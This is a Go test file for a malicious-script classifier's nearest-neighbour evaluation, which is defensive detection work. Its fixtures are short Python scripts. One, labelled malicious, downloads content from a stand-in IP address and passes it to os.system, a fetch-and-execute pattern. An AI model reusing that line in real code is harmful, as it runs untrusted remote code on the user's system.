package eval

import (
	"slices"
	"testing"

	"kingsnake/classify/corpus"
	"kingsnake/classify/train"
)

// example is a script of a test with the features of its text.
func example(id, group string, malicious bool, text string) train.Example {
	return train.NewExample(corpus.Row{ID: id, Cluster: id, Group: group, Malicious: malicious, Set: "train", Origin: "from " + id, Text: text}, train.Options{})
}

const (
	fetches = "import urllib.request\nbody = urllib.request.urlopen('http://192.0.2.7/a').read()\nprint(len(body), body[:10])\n"
	runs    = "import subprocess\nfor name in ('a', 'b', 'c'):\n    subprocess.run(['ls', '-l', name])\n"
	counts  = "import collections\ntotals = collections.Counter()\nfor line in open('/data/a.csv'):\n    totals[line.split(',')[0]] += 1\nprint(totals)\n"
)

func TestNearestNeighborsAreThoseThatTheModelHadLearnedFrom(t *testing.T) {
	t.Parallel()
	d := &train.Dataset{Examples: []train.Example{
		example("mistake", "g1", false, fetches),
		example("twin", "g1", false, fetches), // left out with its group
		example("kin", "g2", false, fetches+runs),
		example("far", "g3", false, counts),
		example("other", "g4", true, fetches+"import os\nos.system(body.decode())\n"),
		example("stranger", "g5", true, runs),
	}}
	v, err := CrossValidate(t.Context(), d, func([]*train.Example) Judge {
		return plainJudge(func(*train.Example) float64 { return 0 })
	}, ByGroup, 1)
	if err != nil {
		t.Fatal(err)
	}
	list := []Mistake{{ID: "mistake"}, {ID: "not there"}}
	Nearest(d, v, list)
	got := list[0].Nearest
	if len(got) != 2 {
		t.Fatalf("neighbors %+v, want one of each label", got)
	}
	same, other := got[0], got[1]
	if same.ID == "twin" || same.Malicious || same.ID == "mistake" {
		t.Errorf("nearest benign script: %+v; want one of another group", same)
	}
	// Which of the two is left out depends on the folds only.
	if !v.out.trains(v.Scored[0].Fold, &d.Examples[2]) || !v.out.trains(v.Scored[0].Fold, &d.Examples[4]) {
		t.Fatal("the folds of the test leave out the neighbors that it is about; give the examples other groups")
	}
	if same.ID != "kin" || !slices.Contains(same.More, "proc.run") || len(same.Less) != 0 {
		t.Errorf("nearest benign script: %+v; want kin, which starts processes besides", same)
	}
	if other.ID != "other" || !other.Malicious || !slices.Contains(other.More, "proc.shell") || other.Similarity <= 0 || other.Similarity >= 1 {
		t.Errorf("nearest malicious script: %+v; want other, which runs a shell besides", other)
	}
	if list[1].Nearest != nil {
		t.Errorf("a script that was not judged has neighbors: %v", list[1].Nearest)
	}
}

func TestMoreMistakesThanOneScanTakesAreAllAnswered(t *testing.T) {
	t.Parallel()
	d := ownDataset(t)
	v := &Validation{}
	var list []Mistake
	for i := range 150 {
		v.Scored = append(v.Scored, Scored{Example: &d.Examples[i]})
		list = append(list, Mistake{ID: d.Examples[i].ID})
	}
	Nearest(d, v, list)
	for i, m := range list {
		if len(m.Nearest) != 2 || m.Nearest[0].Malicious != d.Examples[i].Malicious || m.Nearest[1].Malicious == d.Examples[i].Malicious {
			t.Errorf("mistake %d has neighbors %+v, want one of its label, then one of the other", i, m.Nearest)
		}
	}
}
